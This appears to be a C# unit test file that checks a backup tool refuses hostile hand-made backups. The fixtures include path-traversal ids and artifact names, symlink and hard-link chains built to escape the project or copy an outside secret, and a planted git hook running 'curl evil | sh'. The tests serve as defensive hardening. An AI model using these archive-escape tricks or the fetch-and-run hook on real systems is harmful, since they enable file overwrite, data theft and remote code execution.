using System.Diagnostics;
using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using System.Text.Json;
using Fastband.Core.Backup;
using Xunit;

namespace Fastband.Core.Tests.Backup;

/// <summary>
/// Issue 14, the restore and verify side: backup folders made by hand, with checksums that match, try to make a
/// restore or a verify read, write or delete outside the project. Each attack is refused before it does any of it;
/// a sentinel folder beside the project shows nothing there was touched.
/// </summary>
public sealed class HostileBackupTests : IDisposable
{
    private readonly TempProject _dir = new();
    private readonly string _outside;
    private readonly ManualClock _clock = new();

    public HostileBackupTests()
    {
        Write("src/app.py", "print('hello')\n");
        Write("README.md", "# demo\n");
        _outside = _dir.Root + "-outside";
        Directory.CreateDirectory(_outside);
        File.WriteAllText(Path.Combine(_outside, "sentinel.txt"), "untouched");
    }

    public void Dispose()
    {
        _dir.Dispose();
        if (Directory.Exists(_outside)) Directory.Delete(_outside, recursive: true);
    }

    private string OutsideName => Path.GetFileName(_outside);

    private void Write(string rel, string text)
    {
        string path = Path.Combine(_dir.Root, rel);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, text);
    }

    private string Read(string rel) => File.ReadAllText(Path.Combine(_dir.Root, rel));

    private FastbandProject Open() => _dir.Open("hostile-agent", _clock);

    private void AssertOutsideUntouched(params string[] alsoThere)
    {
        var names = Directory.EnumerateFileSystemEntries(_outside, "*", SearchOption.AllDirectories)
            .Select(p => Path.GetRelativePath(_outside, p)).OrderBy(p => p, StringComparer.Ordinal);
        Assert.Equal(alsoThere.Append("sentinel.txt").OrderBy(p => p, StringComparer.Ordinal), names);
        Assert.Equal("untouched", File.ReadAllText(Path.Combine(_outside, "sentinel.txt")));
    }

    // ------------------------------------------------------------------ hand-made backups

    private static PaxTarEntry FileEntry(string name, string text, UnixFileMode mode = UnixFileMode.UserRead | UnixFileMode.UserWrite) =>
        new(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(text)), Mode = mode };

    private static PaxTarEntry LinkEntry(string name, string target) => new(TarEntryType.SymbolicLink, name) { LinkName = target };

    private static PaxTarEntry HardLinkEntry(string name, string target) => new(TarEntryType.HardLink, name) { LinkName = target };

    private static void TarGz(string path, params TarEntry[] entries)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        using var f = File.Create(path);
        using var gz = new GZipStream(f, CompressionLevel.Fastest);
        using var tar = new TarWriter(gz, TarEntryFormat.Pax);
        foreach (var e in entries) tar.WriteEntry(e);
    }

    /// <summary>
    /// A backup folder .fastband/backups/manual/<paramref name="folder"/> whose manifest says what the test
    /// likes, each artifact's checksum that of the file its name points at (wherever that is), as an attacker makes it.
    /// </summary>
    private string HandMade(string folder, string id, IReadOnlyDictionary<string, bool> components, params (string Component, string File)[] artifacts)
    {
        string path = Path.Combine(_dir.StateDir, "backups", BackupTypes.Manual, folder);
        Directory.CreateDirectory(path);
        var manifest = new BackupManifest
        {
            Id = id, CreatedAt = _clock.GetUtcNow(), ProjectPath = _dir.Root, BackupType = BackupTypes.Manual, Agent = "attacker",
            Components = components, ToolVersion = "1",
            Artifacts = artifacts.Select(a =>
            {
                string file = Path.GetFullPath(Path.Combine(path, a.File));
                return new BackupArtifact(a.Component, a.File, new FileInfo(file).Length, TarArchives.Sha256Of(file));
            }).ToList(),
        };
        File.WriteAllText(Path.Combine(path, BackupManifest.FileName), JsonSerializer.Serialize(manifest, FastbandJson.Options));
        return path;
    }

    private const string GoodId = "20261201-101010-manual-beef";

    /// <summary>A well-formed backup of one code archive holding <paramref name="entries"/>.</summary>
    private string CodeBackup(params TarEntry[] entries)
    {
        string folder = Path.Combine(_dir.StateDir, "backups", BackupTypes.Manual, GoodId);
        TarGz(Path.Combine(folder, "code_backup.tar.gz"), entries);
        return HandMade(GoodId, GoodId, new Dictionary<string, bool> { ["code"] = true }, ("code", "code_backup.tar.gz"));
    }

    private sealed class OnProgress(Action<BackupProgress> report) : IProgress<BackupProgress>
    {
        public void Report(BackupProgress value) => report(value);
    }

    // ------------------------------------------------------------------ 1. the manifest is not trusted

    [Fact]
    public void A_component_named_as_a_path_is_refused_even_in_a_dry_run()
    {
        string component = Path.Combine(_outside, "x");
        string folder = Path.Combine(_dir.StateDir, "backups", BackupTypes.Manual, GoodId);
        TarGz(Path.Combine(folder, "code_backup.tar.gz"), FileEntry("pwned.txt", "owned"));
        HandMade(GoodId, GoodId, new Dictionary<string, bool> { [component] = true }, (component, "code_backup.tar.gz"));

        using var p = Open();
        var e = Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { DryRun = true }));
        Assert.Equal("InvalidManifest", e.ErrorId);
        AssertOutsideUntouched();
    }

    [Fact]
    public void An_id_that_climbs_is_refused_and_nothing_outside_is_deleted()
    {
        // restore-<id>-<pid> under .fastband/backups/.staging would be <outside>/victim-<pid>: it was deleted before and after use.
        string id = $"x/../../../../../{OutsideName}/victim";
        string victim = Path.Combine(_outside, $"victim-{Environment.ProcessId}");
        Directory.CreateDirectory(victim);
        File.WriteAllText(Path.Combine(victim, "precious.txt"), "mine");
        string folder = Path.Combine(_dir.StateDir, "backups", BackupTypes.Manual, GoodId);
        TarGz(Path.Combine(folder, "code_backup.tar.gz"), FileEntry("src/app.py", "print('old')\n"));
        HandMade(GoodId, id, new Dictionary<string, bool> { ["code"] = true }, ("code", "code_backup.tar.gz"));

        using var p = Open();
        Assert.Equal("InvalidManifest", Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { DryRun = true })).ErrorId);
        Assert.Equal("InvalidManifest", Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest())).ErrorId);
        Assert.Equal("InvalidManifest", Assert.Throws<InvalidInputException>(() => p.Backups.Verify("latest")).ErrorId);
        AssertOutsideUntouched($"victim-{Environment.ProcessId}", Path.Combine($"victim-{Environment.ProcessId}", "precious.txt"));
        Assert.Equal("print('hello')\n", Read("src/app.py"));
    }

    [Fact]
    public void An_artifact_named_as_an_absolute_path_is_never_hashed()
    {
        string shadow = Path.Combine(_outside, "shadow");
        File.WriteAllText(shadow, "root:secret");
        HandMade(GoodId, GoodId, new Dictionary<string, bool> { ["code"] = true }, ("code", shadow));

        using var p = Open();
        var e = Assert.Throws<InvalidInputException>(() => p.Backups.Verify(GoodId));
        Assert.Equal("InvalidManifest", e.ErrorId);
        Assert.Contains("code_backup.tar.gz", e.Message);
        Assert.Equal("InvalidManifest", Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId })).ErrorId);
    }

    [Fact]
    public void An_artifact_that_climbs_out_of_the_backup_folder_is_neither_verified_nor_extracted()
    {
        TarGz(Path.Combine(_outside, "evil.tar.gz"), FileEntry("src/app.py", "import evil\n"));
        HandMade(GoodId, GoodId, new Dictionary<string, bool> { ["code"] = true }, ("code", $"../../../../../{OutsideName}/evil.tar.gz"));

        using var p = Open();
        Assert.Equal("InvalidManifest", Assert.Throws<InvalidInputException>(() => p.Backups.Verify(GoodId)).ErrorId);
        Assert.Equal("InvalidManifest", Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId })).ErrorId);
        Assert.Equal("print('hello')\n", Read("src/app.py"));
        AssertOutsideUntouched("evil.tar.gz");
    }

    [Fact]
    public void A_backup_folder_that_is_a_link_elsewhere_is_refused()
    {
        string elsewhere = Path.Combine(_outside, GoodId);
        TarGz(Path.Combine(elsewhere, "code_backup.tar.gz"), FileEntry("src/app.py", "import evil\n"));
        string backups = Path.Combine(_dir.StateDir, "backups", BackupTypes.Manual);
        Directory.CreateDirectory(backups);
        Directory.CreateSymbolicLink(Path.Combine(backups, GoodId), elsewhere);
        HandMade(GoodId, GoodId, new Dictionary<string, bool> { ["code"] = true }, ("code", "code_backup.tar.gz"));

        using var p = Open();
        Assert.Equal("InvalidManifest", Assert.Throws<InvalidInputException>(() => p.Backups.Verify(GoodId)).ErrorId);
        Assert.Equal("InvalidManifest", Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId })).ErrorId);
        Assert.Equal("print('hello')\n", Read("src/app.py"));
    }

    // ------------------------------------------------------------------ 2. links resolved as they really are

    [Fact]
    public void A_chain_of_relative_links_cannot_point_a_link_outside()
    {
        // z points at the root (allowed); esc climbs from z six times, which the tidied text says is the root too.
        CodeBackup(LinkEntry("x1/x2/x3/x4/x5/z", "../../../../.."), LinkEntry("esc", "x1/x2/x3/x4/x5/z/../../../../../.."));

        using var p = Open();
        var e = Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId }));
        Assert.Equal("HostileArchive", e.ErrorId);
        Assert.Contains("'esc'", e.Message);
        Assert.False(Path.Exists(Path.Combine(_dir.Root, "esc")));
        Assert.False(Path.Exists(Path.Combine(_dir.Root, "x1")));
        AssertOutsideUntouched();
    }

    [Fact]
    public void A_link_made_later_cannot_redirect_an_earlier_one_outside()
    {
        // a is judged inside while b/c/d is a folder; once b/c/d becomes a link to the root, a leads three levels up.
        string archive = Path.Combine(_dir.Root, "later.tar.gz");
        TarGz(archive, LinkEntry("a", "b/c/d/../../.."), LinkEntry("b/c/d", "../.."));
        string staging = Path.Combine(_dir.Root, "staging");
        Assert.Equal("HostileArchive", Assert.Throws<InvalidInputException>(() => TarArchives.ExtractSafely(archive, staging)).ErrorId);
        Assert.False(Path.Exists(Path.Combine(staging, "a")));
    }

    [Fact]
    public void A_hard_link_through_a_link_chain_cannot_copy_a_file_from_outside()
    {
        string secret = Path.Combine(_outside, "secret");
        File.WriteAllText(secret, "top secret");
        if (!OperatingSystem.IsWindows()) File.SetUnixFileMode(secret, UnixFileMode.UserRead | UnixFileMode.UserWrite);
        // In staging (<project>/.fastband/backups/.staging/<run>/code) esc climbs to the project's parent.
        CodeBackup(LinkEntry("x1/x2/x3/x4/x5/z", "../../../../.."), LinkEntry("esc", "x1/x2/x3/x4/x5/z/../../../../../.."),
            HardLinkEntry("stolen", $"esc/{OutsideName}/secret"));

        using var p = Open();
        Assert.Equal("HostileArchive", Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId })).ErrorId);
        Assert.False(Path.Exists(Path.Combine(_dir.Root, "stolen")));

        // A hard link may name only a file the archive itself extracted, not one reached through a link, even inside.
        string archive = Path.Combine(_dir.Root, "through.tar.gz");
        TarGz(archive, FileEntry("src/a.txt", "a"), LinkEntry("alias", "src"), HardLinkEntry("h", "alias/a.txt"));
        Assert.Equal("HostileArchive", Assert.Throws<InvalidInputException>(() => TarArchives.ExtractSafely(archive, Path.Combine(_dir.Root, "s"))).ErrorId);
        AssertOutsideUntouched("secret");
    }

    [Theory]
    [InlineData(40)] // while the safety backup reads what the restore replaces
    [InlineData(60)] // while the files are swapped in
    public void A_folder_swapped_for_a_link_during_the_restore_is_not_written_through(int atPercent)
    {
        using var p = Open();
        var b = p.Backups.Create(new BackupRequest { Components = new[] { "code" } }).Backup!;
        Write("src/app.py", "print('changed')\n");
        Directory.CreateDirectory(Path.Combine(_outside, "src"));
        File.WriteAllText(Path.Combine(_outside, "src", "app.py"), "outside\n");
        void Swap(BackupProgress step)
        {
            if (step.Percent != atPercent) return;
            Directory.Move(Path.Combine(_dir.Root, "src"), Path.Combine(_dir.Root, "src-moved"));
            Directory.CreateSymbolicLink(Path.Combine(_dir.Root, "src"), Path.Combine(_outside, "src"));
        }

        var e = Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = b.Id, Components = new[] { "code" } }, new OnProgress(Swap)));
        Assert.Equal("HostileDestination", e.ErrorId);
        Assert.Equal("outside\n", File.ReadAllText(Path.Combine(_outside, "src", "app.py")));
        AssertOutsideUntouched("src", Path.Combine("src", "app.py"));
    }

    [Fact]
    public void A_link_already_in_the_destination_is_never_written_through()
    {
        Directory.CreateDirectory(Path.Combine(_outside, "lib"));
        Directory.CreateSymbolicLink(Path.Combine(_dir.Root, "lib"), Path.Combine(_outside, "lib"));
        CodeBackup(FileEntry("lib/evil.py", "evil"));

        using var p = Open();
        Assert.Equal("HostileDestination", Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId, DryRun = true })).ErrorId);
        Assert.Equal("HostileDestination", Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId })).ErrorId);
        AssertOutsideUntouched("lib");
    }

    // ------------------------------------------------------------------ 3. the safety backup, and .fastband/

    [Fact]
    public void The_safety_backup_holds_every_file_the_restore_replaces_even_one_the_config_excludes()
    {
        Write("build.log", "today's log\n"); // *.log is excluded by default, so no backup of the current config holds it
        CodeBackup(FileEntry("build.log", "an old log\n"), FileEntry("src/app.py", "print('old')\n"));

        using var p = Open();
        var r = p.Backups.Restore(new RestoreRequest { BackupId = GoodId });
        Assert.Equal(2, r.Overwritten);
        Assert.Equal("an old log\n", Read("build.log"));
        var safety = p.Backups.Find(r.SafetyBackupId!);
        var held = Entries(Path.Combine(safety.Path, "code_backup.tar.gz"));
        Assert.Equal("today's log\n", held["build.log"]);
        Assert.Equal("print('hello')\n", held["src/app.py"]);
        Assert.True(p.Backups.Verify(safety.Id).Ok);
    }

    [Fact]
    public void Entries_under_fastband_are_refused_and_nothing_is_written()
    {
        CodeBackup(FileEntry("src/app.py", "print('old')\n"), FileEntry(".fastband/backups/manual/planted/manifest.json", "{}"), FileEntry(".fastband/config.yaml", "hijacked"));

        using var p = Open();
        var e = Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId }));
        Assert.Equal("HostileArchive", e.ErrorId);
        Assert.Contains(".fastband/", e.Message);
        Assert.False(Path.Exists(Path.Combine(_dir.StateDir, "backups", "manual", "planted")));
        Assert.False(File.Exists(Path.Combine(_dir.StateDir, "config.yaml")) && File.ReadAllText(Path.Combine(_dir.StateDir, "config.yaml")) == "hijacked");
        Assert.Equal("print('hello')\n", Read("src/app.py"));
    }

    [Fact]
    public void Entries_under_git_come_back_only_from_the_git_component()
    {
        CodeBackup(FileEntry("src/app.py", "print('old')\n"), FileEntry(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n", (UnixFileMode)0b111_101_101));

        using var p = Open();
        var e = Assert.Throws<InvalidInputException>(() => p.Backups.Restore(new RestoreRequest { BackupId = GoodId }));
        Assert.Equal("HostileArchive", e.ErrorId);
        Assert.Contains("only the git component", e.Message);
        Assert.False(Path.Exists(Path.Combine(_dir.Root, ".git")));
        Assert.Equal("print('hello')\n", Read("src/app.py"));
    }

    private static Dictionary<string, string> Entries(string archive)
    {
        var found = new Dictionary<string, string>(StringComparer.Ordinal);
        using var f = File.OpenRead(archive);
        using var gz = new GZipStream(f, CompressionMode.Decompress);
        using var tar = new TarReader(gz);
        while (tar.GetNextEntry() is { } e)
            found[e.Name] = e.DataStream is null ? "" : new StreamReader(e.DataStream).ReadToEnd();
        return found;
    }

    // ------------------------------------------------------------------ 4. staging

    [Fact]
    public void A_live_process_staging_survives_a_create_and_a_dead_ones_is_removed()
    {
        using var sleeper = Process.Start(new ProcessStartInfo("sleep", "60") { UseShellExecute = false })!;
        string staging = Path.Combine(_dir.StateDir, "backups", ".staging", $"dry-run-{sleeper.Id}-0123abcd");
        Directory.CreateDirectory(staging);
        File.WriteAllText(Path.Combine(staging, "code"), "being compared");

        using var p = Open();
        Assert.True(p.Backups.Create(new BackupRequest { Force = true }).Created);
        Assert.True(File.Exists(Path.Combine(staging, "code")), "a create deleted a running dry run's staging");

        sleeper.Kill();
        sleeper.WaitForExit();
        Assert.True(p.Backups.Create(new BackupRequest { Force = true }).Created);
        Assert.False(Directory.Exists(staging), "a dead process's staging was kept");
    }

    [Fact]
    public void A_dry_run_writes_nothing_but_its_own_staging()
    {
        CodeBackup(FileEntry("src/app.py", "print('old')\n"), FileEntry("src/new.py", "new"));
        static string[] Listing(string root) => Directory.EnumerateFileSystemEntries(root, "*", SearchOption.AllDirectories)
            .Where(f => !f.Contains(Path.Combine(".fastband", "backups", ".staging"), StringComparison.Ordinal))
            .Select(f => Path.GetRelativePath(root, f) + (File.Exists(f) ? $" {File.GetLastWriteTimeUtc(f).Ticks} {new FileInfo(f).Length}" : "/"))
            .Order(StringComparer.Ordinal).ToArray();
        using var p = Open();
        var before = Listing(_dir.Root);

        var r = p.Backups.Restore(new RestoreRequest { BackupId = GoodId, DryRun = true });
        Assert.Equal((1, 1), (r.Created, r.Overwritten));
        Assert.Equal(before, Listing(_dir.Root));
        string stagingRoot = Path.Combine(_dir.StateDir, "backups", ".staging");
        Assert.True(!Directory.Exists(stagingRoot) || !Directory.EnumerateFileSystemEntries(stagingRoot).Any());
    }

    // ------------------------------------------------------------------ 5. modes and names

    [Fact]
    public void A_restore_brings_back_the_recorded_mode_less_setuid_setgid_sticky_and_group_or_other_write_and_always_owner_readable()
    {
        if (OperatingSystem.IsWindows()) return;
        CodeBackup(
            FileEntry("bin/run.sh", "#!/bin/sh\n", (UnixFileMode)0b111_101_101),
            FileEntry("bin/suid", "x", (UnixFileMode)0b100_111_101_101),
            FileEntry("shared.txt", "x", (UnixFileMode)0b110_110_110),
            FileEntry("readonly.txt", "x", (UnixFileMode)0b100_000_000),
            FileEntry("unreadable.txt", "x", (UnixFileMode)0b010_000_000),
            FileEntry("sticky", "x", (UnixFileMode)0b001_111_111_111));
        string elsewhere = Path.Combine(_outside, "restored");

        using var p = Open();
        p.Backups.Restore(new RestoreRequest { BackupId = GoodId, Destination = elsewhere });
        UnixFileMode ModeOf(string rel) => File.GetUnixFileMode(Path.Combine(elsewhere, rel));
        Assert.Equal((UnixFileMode)0b111_101_101, ModeOf("bin/run.sh"));
        Assert.Equal((UnixFileMode)0b111_101_101, ModeOf("bin/suid"));
        Assert.Equal((UnixFileMode)0b110_100_100, ModeOf("shared.txt"));
        Assert.Equal((UnixFileMode)0b100_000_000, ModeOf("readonly.txt"));
        Assert.Equal((UnixFileMode)0b111_101_101, ModeOf("sticky"));
        Assert.Equal((UnixFileMode)0b110_000_000, ModeOf("unreadable.txt"));

        // The same bytes with another mode are a change; a second restore of the same backup changes nothing.
        File.SetUnixFileMode(Path.Combine(elsewhere, "bin/run.sh"), (UnixFileMode)0b110_000_000);
        var again = p.Backups.Restore(new RestoreRequest { BackupId = GoodId, Destination = elsewhere });
        Assert.Equal((0, 1, 5), (again.Created, again.Overwritten, again.Unchanged));
        Assert.Equal((UnixFileMode)0b111_101_101, ModeOf("bin/run.sh"));
    }

    [Fact]
    public void A_backslash_in_a_name_is_part_of_the_name_on_unix()
    {
        if (OperatingSystem.IsWindows()) return;
        CodeBackup(FileEntry("a\\b", "one file"), LinkEntry("c\\d", "a\\b"));

        using var p = Open();
        p.Backups.Restore(new RestoreRequest { BackupId = GoodId });
        Assert.Equal("one file", Read("a\\b"));
        Assert.Equal("a\\b", new FileInfo(Path.Combine(_dir.Root, "c\\d")).LinkTarget);
        Assert.False(Path.Exists(Path.Combine(_dir.Root, "a")));
        Assert.False(Path.Exists(Path.Combine(_dir.Root, "c")));
    }
}
